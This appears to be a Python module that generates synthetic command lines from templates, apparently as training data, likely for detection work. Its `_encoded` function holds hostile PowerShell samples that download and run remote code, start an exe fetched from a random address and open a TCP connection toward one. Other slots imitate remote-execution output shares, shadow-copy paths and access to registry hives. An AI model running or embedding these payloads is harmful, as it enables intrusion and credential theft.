"""Templates with alternatives and slots: `«a¦b»` is one of several, `‹name›` is drawn anew each time."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Mapping
from typing import NamedTuple

from training.forms.scene import (
    SUFFIXES,
    draw_address,
    draw_domain,
    draw_first,
    draw_folder,
    draw_guid,
    draw_host,
    draw_name,
    draw_project,
    draw_scene,
    draw_user,
    draw_word,
)

Drawer = Callable[[random.Random], str]
# So many characters long on average, alternatives are commands of their own and no spellings of one.
_WHOLE_COMMAND = 20
_CLOSING = {"«": "»", "‹": "›"}
_EXTENSIONS = "hiv save dat bak tmp log txt reg hive bin out old zip cab db 1 jpg".split()


class Template(NamedTuple):
    """One row of a grammar: what is written, what carries it out, and what it shows."""

    name: str
    shell: str  # cmd, powershell, bash, or text
    pattern: str
    also: tuple[str, ...] = ()


def parse_templates(rows: str) -> tuple[Template, ...]:
    """Rows of `name shell[ +technique]: pattern`; blank rows and `#` rows are skipped.

    Raises: ValueError on a row without its head or with an unbalanced bracket.
    """
    templates = []
    for row in rows.splitlines():
        if not row.strip() or row.lstrip().startswith("# "):
            continue
        head, colon, pattern = row.strip().partition(": ")
        words = head.split()
        if not colon or len(words) < 2:
            raise ValueError(f"grammar row {row!r} is not `name shell: pattern`; add its head")
        check_brackets(pattern, row)
        also = tuple(word[1:] for word in words[2:])
        templates.append(Template(words[0], words[1], pattern, also))
    return tuple(templates)


def check_brackets(pattern: str, row: str) -> None:
    """See that every `«‹` of a pattern of `row` is closed by its like, in order.

    Raises: ValueError that names the row.
    """
    opened: list[str] = []
    for sign in pattern:
        if sign in _CLOSING:
            opened.append(_CLOSING[sign])
        elif sign in _CLOSING.values() and (not opened or opened.pop() != sign):
            raise ValueError(f"grammar row {row[:80]!r} closes {sign!r} in {pattern!r} without opening it; mend it")
    if opened:
        raise ValueError(
            f"grammar row {row[:80]!r} leaves {pattern!r} without {opened[-1]!r}; close it, "
            "and keep the sign between values out of brackets"
        )


def split_alternatives(template: Template) -> tuple[Template, ...]:
    """A template whose longest alternation holds whole commands, as one template for each of them."""
    spans = _alternations(template.pattern)
    choices = [(span, _alternatives(template.pattern[span[0] + 1 : span[1]])) for span in spans]
    long = [(span, some) for span, some in choices if sum(map(len, some)) >= _WHOLE_COMMAND * len(some)]
    if not long:
        return (template,)
    (start, end), some = max(long, key=lambda one: sum(map(len, one[1])))
    head, tail = template.pattern[:start], template.pattern[end + 1 :]
    return tuple(
        template._replace(name=f"{template.name}-{number}", pattern=head + one + tail)
        for number, one in enumerate(some, 1)
    )


def _alternations(pattern: str) -> list[tuple[int, int]]:
    """Where the outermost `«…»` begin and end."""
    spans: list[tuple[int, int]] = []
    depth = start = 0
    for place, sign in enumerate(pattern):
        if sign == "«":
            start = place if not depth else start
            depth += 1
        elif sign == "»":
            depth -= 1
            if not depth:
                spans.append((start, place))
    return spans


def _alternatives(body: str) -> list[str]:
    """`a¦b¦«c¦d»` as its outermost alternatives."""
    found, depth = [""], 0
    for sign in body:
        depth += (sign == "«") - (sign == "»")
        if sign == "¦" and not depth:
            found.append("")
        else:
            found[-1] += sign
    return found


def expand(pattern: str, rng: random.Random, slots: Mapping[str, str | Drawer]) -> str:
    """Fill one pattern in: alternatives first from the inside out, then the slots, which may hold alternatives."""
    while (end := pattern.find("»")) >= 0:
        start = pattern.rfind("«", 0, end)
        pattern = pattern[:start] + rng.choice(pattern[start + 1 : end].split("¦")) + pattern[end + 1 :]
    while (start := pattern.find("‹")) >= 0:
        end = pattern.index("›", start)
        slot = slots[pattern[start + 1 : end]]
        value = expand(slot, rng, slots) if isinstance(slot, str) else slot(rng)
        pattern = pattern[:start] + value + pattern[end + 1 :]
    return pattern


def _folder(rng: random.Random) -> str:
    return draw_folder(rng, draw_scene(rng)).rstrip("\\")


def _file(rng: random.Random) -> str:
    folder = _folder(rng)
    place = rng.choice((folder, folder, folder, "%TEMP%", ".", "", "C:", f"\\\\{_server(rng)}\\{draw_project(rng)}$"))
    name = f"{draw_name(rng)}.{rng.choice(_EXTENSIONS)}" if rng.random() < 0.9 else draw_name(rng)
    path = f"{place}\\{name}" if place else name
    return f'"{path}"' if " " in path or rng.random() < 0.12 else path


def _host(rng: random.Random) -> str:
    return draw_host(rng, "NT AUTHORITY").split(".")[0]


def _server(rng: random.Random) -> str:
    return _host(rng) if rng.random() < 0.7 else draw_address(rng)


def _linux_file(rng: random.Random) -> str:
    folder = draw_folder(rng, draw_scene(rng, "linux"), "linux").rstrip("/")
    return f"{folder}/{draw_name(rng)}.{rng.choice(('txt', 'log', 'out', 'bak', 'tar.gz', 'sh', 'conf', 'csv'))}"


def _password(rng: random.Random) -> str:
    """As people choose them, as policies want them, as a generator makes them."""
    word, number = draw_word(rng), str(rng.randrange(10000))
    season = rng.choice(("Spring", "Summer", "Autumn", "Fall", "Winter", "Welcome", "Company", "Changeme", "Qwerty"))
    return rng.choice(
        (
            word.title() + rng.choice("!#%&@$") + number,
            word + number,
            f"{season}{rng.choice(('', '@', '_'))}{rng.choice((rng.randrange(2015, 2030), 1, 123))}{rng.choice('!!?# ').strip()}",
            rng.choice(("P@ssw0rd", "Passw0rd", "Password", "password", "Pa$$w0rd", "P@$$w0rd", "pass", "P@ss"))
            + rng.choice(("", "!", "1", "123", "1!", "123!", "01", "2024")),
            "".join(
                rng.choice("abcdefghkmnpqrstuvwxyzABCDEFGHKLMNPQRSTUVWXYZ23456789!#@_-")
                for _ in range(rng.randrange(8, 15))
            ),
        )
    )


def _encoded(rng: random.Random) -> str:
    """A script as `-EncodedCommand` takes it."""
    name, address = draw_name(rng), draw_address(rng)
    script = rng.choice(
        (
            f"IEX (New-Object Net.WebClient).DownloadString('http://{address}/{name}')",
            f"$c=New-Object Net.Sockets.TCPClient('{address}',443);$s=$c.GetStream()",
            f"iwr http://{address}/{name}.exe -OutFile $env:TEMP\\{name}.exe; saps $env:TEMP\\{name}.exe",
            f"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((gp HKCU:\\Software\\{name}).{name})))",
        )
    )
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _encoded_job(rng: random.Random) -> str:
    """An ordinary script as `-EncodedCommand` takes it."""
    name, server = draw_word(rng).title(), _server(rng)
    script = rng.choice(
        (
            f"Get-Service -Name {name}* | Where-Object Status -ne 'Running' | Start-Service",
            "$ProgressPreference='SilentlyContinue'; Get-Volume | Select-Object DriveLetter,SizeRemaining | ConvertTo-Json",
            '&chcp.com 65001 > $null\n$exec_wrapper_str = $input | Out-String\n$split_parts = $exec_wrapper_str.Split(@("`0`0`0`0"), 2, [StringSplitOptions]::RemoveEmptyEntries)',
            f"(Get-Item 'C:\\Program Files\\{name}\\{name}.exe').VersionInfo.ProductVersion",
            f"Set-Content -Path C:\\ProgramData\\{name}\\config.json -Value (@{{ server = '{server}' }} | ConvertTo-Json)",
            f"Install-WindowsFeature {rng.choice(('Web-Server', 'NET-Framework-Core', 'RSAT-AD-PowerShell'))} -IncludeManagementTools",
            f"if (Test-Path 'D:\\{name}') {{ Get-ChildItem 'D:\\{name}' -Filter *.log | Remove-Item -Force }}",
            f"Import-Module WebAdministration; Restart-WebAppPool -Name '{name}'",
            f"Start-Process msiexec.exe -ArgumentList '/i \\\\{server}\\deploy\\{name}.msi /qn' -Wait; exit $LASTEXITCODE",
            "$s = Get-Counter '\\Processor(_Total)\\% Processor Time'; Write-Output $s.CounterSamples[0].CookedValue",
            f"[Environment]::SetEnvironmentVariable('{name.upper()}_HOME', 'C:\\{name}', 'Machine')",
            f"Restart-Computer -Force -Timeout {rng.randrange(30, 600)}",
        )
    )
    return base64.b64encode(script.encode("utf-16-le")).decode()


SLOTS: dict[str, str | Drawer] = {
    "hklm": "«HKLM¦HKLM¦HKLM¦hklm¦HKEY_LOCAL_MACHINE¦HKey_Local_Machine»",
    "file": _file,
    "dir": _folder,
    "name": draw_name,
    "word": draw_word,
    "Word": lambda rng: draw_word(rng).title(),
    "project": draw_project,
    "first": draw_first,
    "user": draw_user,
    "pass": _password,
    "domain": draw_domain,
    "fqdn": lambda rng: f"{draw_domain(rng).lower()}.{rng.choice(SUFFIXES)}",
    "host": _host,
    "server": _server,
    "ip": draw_address,
    "guid": draw_guid,
    "sid": "S-1-5-21-‹pid›‹pid›-‹pid›‹pid›-‹pid›‹pid›-1‹pid›",
    "letters8": lambda rng: "".join(
        rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(8)
    ),
    "hex": lambda rng: f"{rng.getrandbits(40):016X}",
    "n": lambda rng: str(rng.randrange(1, 60)),
    "pid": lambda rng: str(rng.randrange(100, 9000)),
    "enc": _encoded,
    "enc_job": _encoded_job,
    "port": lambda rng: str(
        rng.choice((22, 53, 80, 135, 139, 389, 443, 445, 1433, 3306, 3389, 5432, 5985, 8080, 8443, 9200))
    ),
    "hash": lambda rng: f"{rng.getrandbits(128):032x}",
    "lfile": _linux_file,
    "ldir": lambda rng: draw_folder(rng, draw_scene(rng, "linux"), "linux").rstrip("/") or "/",
    "vss": "\\\\«?¦.»\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy‹n›",
    "system32": "«C:\\Windows\\System32¦C:\\Windows\\system32¦%SystemRoot%\\System32¦%windir%\\system32¦c:\\windows\\system32»",
    "config": "«C:\\Windows\\System32\\config¦C:\\windows\\system32\\config¦%SystemRoot%\\System32\\config¦%windir%\\system32\\config¦c:\\WINDOWS\\SYSTEM32\\CONFIG»",
    "maybe": "«¦¦¦¦ > ‹file›¦ 2>&1»",
    # What stands around a short command: a shell, a file that keeps what it prints, the share a remote shell reads.
    "cmd_c": '«cmd¦cmd.exe¦C:\\Windows\\system32\\cmd.exe¦"C:\\Windows\\System32\\cmd.exe"¦%COMSPEC%» «/c¦/C¦/d /c»',
    "kept": "« > ‹file›¦ >> ‹file›¦ > %TEMP%\\‹name›.txt¦ > C:\\Windows\\Temp\\‹letters8›.tmp 2>&1¦ >> C:\\Users\\Public\\‹name›.log»",
    "share_out": "1> \\\\127.0.0.1\\«ADMIN$¦C$»\\__17‹pid›‹pid›«.‹pid›¦» 2>&1",
    "lkept": "«> /tmp/.‹name›¦>> /tmp/‹name›.txt¦> /dev/shm/‹name› 2>&1¦2>/dev/null¦| tee ‹lfile›»",
    "lmaybe": "«¦¦¦¦ > ‹lfile›¦ 2>/dev/null¦ 2>&1»",
}
